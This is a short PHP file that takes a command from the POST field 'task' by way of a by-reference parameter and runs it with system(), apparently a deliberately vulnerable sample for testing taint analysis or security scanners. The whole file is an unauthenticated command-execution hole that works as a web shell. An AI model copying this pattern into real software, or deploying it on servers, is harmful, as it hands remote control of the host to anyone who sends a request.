<?php
// A command read into a variable the caller passes by reference, then run.
function read_task(array $from, &$task)
{
    $task = isset($from['task']) ? $from['task'] : 'date';
    return true;
}
if (read_task($_POST, $cmd)) {
    echo '<pre>';
    system($cmd);
    echo '</pre>';
}
